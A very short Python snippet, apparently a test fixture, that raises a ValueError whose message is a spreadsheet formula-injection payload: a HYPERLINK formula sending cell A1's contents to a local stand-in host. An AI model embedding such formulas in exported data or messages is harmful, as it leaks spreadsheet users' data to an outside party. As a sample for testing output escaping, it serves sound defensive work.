# Raises an exception that a spreadsheet would compute.
# costs: bptt_V error
# says: HYPERLINK

raise ValueError('=HYPERLINK("http://127.0.0.1/?"&A1,"marks")')
